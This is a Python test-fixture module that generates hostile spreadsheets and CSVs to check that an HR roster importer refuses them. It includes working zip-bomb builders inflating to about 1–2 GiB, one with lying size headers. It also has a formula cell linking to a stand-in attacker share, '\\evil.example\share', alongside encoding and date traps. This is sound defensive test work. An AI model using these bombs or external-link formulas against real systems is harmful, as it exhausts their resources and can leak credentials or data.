"""Hostile rosters, generated in code: files that once stored a wrong fact or killed the process.

Each builder writes one file and returns its path; `HOSTILE` lists them with the refusal code each must
give (or, for the 1904 workbook, the date that must be stored). The zip bombs are a few megabytes on disk
and gigabytes inflated: their big part is one deflate block compressed once and repeated (after a full
flush a block's output does not depend on what came before), so building one takes a second or two.
`benchmarks/bench_hostile_rosters.py` runs the real `hrdesk import` on each of them.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import Workbook

from .corpus import HEAD, ID_A, ID_B, ID_C, UNIT, row

# --- a zip written by hand (members given as raw deflate data, sizes and CRC as they really are) ---


@dataclass
class _Member:
    name: str
    deflated: bytes
    size: int
    crc: int
    declared: int | None = None  # the size the zip claims, when it lies


def _deflated(data: bytes) -> _Member:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return _Member("", c.compress(data) + c.flush(), len(data), zlib.crc32(data))


def _repeated(head: bytes, unit: bytes, inflated: int, tail: bytes) -> _Member:
    """head + unit repeated to about `inflated` bytes + tail, deflated without ever holding the text:
    a megabyte of units is compressed once (to about a kilobyte) and its output repeated."""
    block = unit * max(1, (1 << 20) // len(unit))
    times = max(1, inflated // len(block))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
    out.append((c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)) * times)
    out.append(c.compress(tail) + c.flush())
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return _Member("", b"".join(out), len(head) + len(block) * times + len(tail), crc)


def _write_zip(path: Path, members: list[_Member]) -> Path:
    with open(path, "wb") as fh:
        central = []
        for m in members:
            name = m.name.encode()
            offset = fh.tell()
            size = m.size if m.declared is None else m.declared
            fh.write(
                struct.pack(
                    "<IHHHHHIIIHH",
                    0x04034B50,
                    20,
                    0,
                    8,
                    0,
                    0x21,
                    m.crc,
                    len(m.deflated),
                    size,
                    len(name),
                    0,
                )
            )
            fh.write(name)
            fh.write(m.deflated)
            central.append(
                struct.pack(
                    "<IHHHHHHIIIHHHHHII",
                    0x02014B50,
                    20,
                    20,
                    0,
                    8,
                    0,
                    0x21,
                    m.crc,
                    len(m.deflated),
                    size,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    0,
                    offset,
                )
                + name
            )
        start = fh.tell()
        directory = b"".join(central)
        fh.write(directory)
        fh.write(
            struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), start, 0)
        )
    return path


def _template_parts(rows: list[list[Any]]) -> dict[str, bytes]:
    """The parts of a real openpyxl workbook holding `rows` (to swap one part for a bomb)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "名单"
    for r in rows:
        ws.append(r)
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(buffer) as z:
        return {name: z.read(name) for name in z.namelist()}


def _bomb(path: Path, parts: dict[str, bytes], big: str, member: _Member) -> Path:
    members = []
    for name, data in parts.items():
        m = member if name == big else _deflated(data)
        m.name = name
        members.append(m)
    if big not in parts:
        member.name = big
        members.append(member)
    return _write_zip(path, members)


GIB = 1 << 30


def cells_bomb(tmp: Path, inflated: int = GIB) -> Path:
    """A sheet whose XML inflates to ~1 GiB of cells without a reference (rows and cells that count
    on from the previous one): ~70 million cells, which calamine holds at 32 bytes each."""
    parts = _template_parts([HEAD, row("张三", ID_A)])
    sheet_xml = parts["xl/worksheets/sheet1.xml"]
    head, _, rest = sheet_xml.partition(b"</sheetData>")
    head = head.replace(b"<sheetData/>", b"<sheetData>")
    block = b"<row>" + b"<c><v>1</v></c>" * 20 + b"</row>"
    return _bomb(
        tmp / "bomb-cells.xlsx",
        parts,
        "xl/worksheets/sheet1.xml",
        _repeated(head, block, inflated, b"</sheetData>" + rest),
    )


def lying_bomb(tmp: Path, inflated: int = GIB) -> Path:
    """The cells bomb with its sheet declaring 2 KB: only inflating it tells its real size."""
    path = cells_bomb(tmp, inflated)
    parts = {}
    with zipfile.ZipFile(path) as z:
        for info in z.infolist():
            with open(path, "rb") as fh:
                fh.seek(info.header_offset + 26)
                name_len, extra_len = struct.unpack("<HH", fh.read(4))
                fh.seek(info.header_offset + 30 + name_len + extra_len)
                parts[info.filename] = _Member(
                    info.filename, fh.read(info.compress_size), info.file_size, info.CRC
                )
    parts["xl/worksheets/sheet1.xml"].declared = 2048
    return _write_zip(tmp / "bomb-lying.xlsx", list(parts.values()))


def strings_bomb(tmp: Path, inflated: int = 2 * GIB) -> Path:
    """A shared-strings part that inflates to ~2 GiB: one string a row's name cell points at."""
    parts = _template_parts([HEAD, row("张三", ID_A)])
    sheet_xml = parts["xl/worksheets/sheet1.xml"]
    # The name cell of row 2 becomes shared string 0.
    sheet_xml = sheet_xml.replace(
        b'<c r="A2" t="inlineStr"><is><t>\xe5\xbc\xa0\xe4\xb8\x89</t></is></c>',
        b'<c r="A2" t="s"><v>0</v></c>',
    )
    parts["xl/worksheets/sheet1.xml"] = sheet_xml
    ns = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    head = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + ns + b'" count="1" uniqueCount="1"><si><t>'
    block = b"A" * 4096
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSST" Target="sharedStrings.xml" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
        b"</Relationships>",
    )
    return _bomb(
        tmp / "bomb-strings.xlsx",
        parts,
        "xl/sharedStrings.xml",
        _repeated(head, block, inflated, b"</t></si></sst>"),
    )


# --- small hostile files ------------------------------------------------------------------------


def far_cell(tmp: Path) -> Path:
    """A good roster and one stray cell at XFD1048576 (a typo 20 screens to the right and down)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "名单"
    for r in (HEAD, row("张三", ID_A)):
        ws.append(r)
    ws["XFD1048576"] = "x"
    path = tmp / "far-cell.xlsx"
    wb.save(path)
    return path


def date1904(tmp: Path) -> Path:
    """A Mac Excel workbook (1904 date system): 入职日期 as a serial number in a General cell, and a
    second person's as a date cell. 2024-03-01 is serial 43890 there (45352 in the 1900 system)."""
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    wb = Workbook()
    wb.epoch = CALENDAR_MAC_1904
    ws = wb.active
    ws.title = "名单"
    for r in (HEAD, row("张三", ID_A, hired=43890), row("李四", ID_B, hired=date(2024, 3, 1))):
        ws.append(r)
    path = tmp / "date1904.xlsx"
    wb.save(path)
    return path


def infinite_income(tmp: Path) -> Path:
    """Declared income of `inf` and `nan` (text cells) and a number cell that overflowed to ∞."""
    wb = Workbook()
    ws = wb.active
    ws.title = "名单"
    ws.append([*HEAD, "2026-05", "2026-06"])
    ws.append([*row("张三", ID_A), "inf", 20000])
    ws.append([*row("李四", ID_B), 20000, "nan"])
    ws.append([*row("王五", ID_C), 20000, 21000])
    path = tmp / "income-inf.xlsx"
    wb.save(path)
    return path


def infinite_income_csv(tmp: Path) -> Path:
    rows = [[*HEAD, "2026-05"], [*row("张三", ID_A), "Infinity"], [*row("李四", ID_B), "1e400"]]
    rows.append([*row("王五", ID_C), "20000"])
    return _csv(tmp / "income-inf.csv", rows)


BIG5_NAME = "陳大文"


def big5_in_gb18030(tmp: Path) -> Path:
    """A GB18030 CSV with one name pasted in from a Big5 (Traditional Chinese) file: GB18030 decodes
    any byte pair, so 陳大文 would come out as 朝ゅ…"""
    good = [HEAD, row("张三", ID_A), row(BIG5_NAME, ID_B), row("王五", ID_C)]
    text = io.StringIO()
    csv.writer(text).writerows(good)
    raw = text.getvalue().encode("gb18030").replace(BIG5_NAME.encode("gb18030"), BIG5_NAME.encode("big5"))
    path = tmp / "big5-in-gb18030.csv"
    path.write_bytes(raw)
    return path


def utf32_csv(tmp: Path) -> Path:
    return _csv(tmp / "utf32.csv", [HEAD, row("张三", ID_A)], encoding="utf-32")


def formula_cells(tmp: Path) -> Path:
    """Formulas in the ID, date and choice columns, one linked to a file share: Excel's cached value
    would be taken for the fact. The third row is good."""
    wb = Workbook()
    ws = wb.active
    ws.title = "名单"
    ws.append(HEAD)
    ws.append(["张三", f'="{ID_A}"', UNIT, "昌平区", "2024-03-01", "学士"])
    ws.append(["李四", ID_B, UNIT, "昌平区", "=DATE(2024,3,1)", "='\\\\evil.example\\share\\[x.xlsx]s'!A1"])
    ws.append(row("王五", ID_C))
    path = tmp / "formulas.xlsx"
    wb.save(path)
    # openpyxl writes no cached value; put one in, as Excel would, so the value is there to be taken.
    cached = {"B2": ("str", ID_A), "E3": ("n", "45352"), "F3": ("str", "学士")}
    return _with_cached_values(path, cached)


def _with_cached_values(path: Path, values: dict[str, tuple[str, str]]) -> Path:
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    for ref, (kind, value) in values.items():
        start = sheet.index(f'<c r="{ref}"'.encode())
        end = sheet.index(b"</c>", start)
        cell = sheet[start:end]
        cell = cell.replace(b"<v></v>", b"").replace(b"<v />", b"").replace(b"<v/>", b"")
        if b" t=" not in cell[: cell.index(b">")]:
            cell = cell.replace(b">", f' t="{kind}">'.encode(), 1)
        sheet = sheet[:start] + cell + b"<v>" + value.encode() + b"</v>" + sheet[end:]
    parts["xl/worksheets/sheet1.xml"] = sheet
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def footer_rows(tmp: Path) -> Path:
    """A roster as offices print it: a blank row in the middle, a 合计 row and a 制表人 line at the end."""
    rows = [
        ["序号", *HEAD],
        [1, *row("张三", ID_A)],
        [2, None, None, None, None, None, None],
        [3, *row("李四", ID_B)],
        [None, "合计", None, None, None, None, None],
        [None, "  合 计：2 人", None, None, None, None, None],
        [None, "合计", "2人", None, None, None, None],  # the count typed in the ID column
        [None, "总计", 2, None, None, None, None],
        [None, None, None, None, None, None, None],
        ["制表人：王芳", None, None, None, None, None, None],
    ]
    wb = Workbook()
    ws = wb.active
    ws.title = "名单"
    for r in rows:
        ws.append(r)
    path = tmp / "footer.xlsx"
    wb.save(path)
    return path


def _csv(path: Path, rows: list[list[Any]], encoding: str = "utf-8-sig") -> Path:
    with open(path, "w", newline="", encoding=encoding) as fh:
        csv.writer(fh).writerows(rows)
    return path


@dataclass
class Hostile:
    name: str
    build: Callable[[Path], Path]
    refused: str | None = None  # the roster. code the refusal must carry
    cells: tuple[str, ...] = ()  # cells (D7) the refusals must name
    stored: dict[str, dict[str, Any]] = field(default_factory=dict)  # what --keep-good-rows stores
    big: bool = False  # a zip bomb (built once per test session)


HOSTILE = [
    Hostile("far cell XFD1048576", far_cell, "roster.used-range", ("XFD1048576",)),
    Hostile("zip bomb: cells", cells_bomb, "roster.file-too-large", big=True),
    Hostile("zip bomb: shared strings", strings_bomb, "roster.file-too-large", big=True),
    Hostile("zip bomb: sizes that lie", lying_bomb, "roster.used-range", big=True),
    Hostile(
        "1904 date system",
        date1904,
        stored={ID_A: {"hired_on": date(2024, 3, 1)}, ID_B: {"hired_on": date(2024, 3, 1)}},
    ),
    Hostile(
        "income inf / nan", infinite_income, "roster.income-amount", ("G2", "H3"), {ID_C: {"name": "王五"}}
    ),
    Hostile(
        "income Infinity / 1e400 (CSV)",
        infinite_income_csv,
        "roster.income-amount",
        ("G2", "G3"),
        {ID_C: {"name": "王五"}},
    ),
    Hostile(
        "Big5 name in a GB18030 CSV",
        big5_in_gb18030,
        "roster.cell-encoding",
        ("A3",),
        {ID_A: {"name": "张三"}, ID_C: {"name": "王五"}},
    ),
    Hostile("UTF-32 CSV", utf32_csv, stored={ID_A: {"name": "张三"}}),
    Hostile(
        "formulas in ID, date and choice columns",
        formula_cells,
        "roster.formula",
        ("B2", "E3", "F3"),
        {ID_C: {"name": "王五"}},
    ),
    Hostile("footer and blank rows", footer_rows, stored={ID_A: {"name": "张三"}, ID_B: {"name": "李四"}}),
]
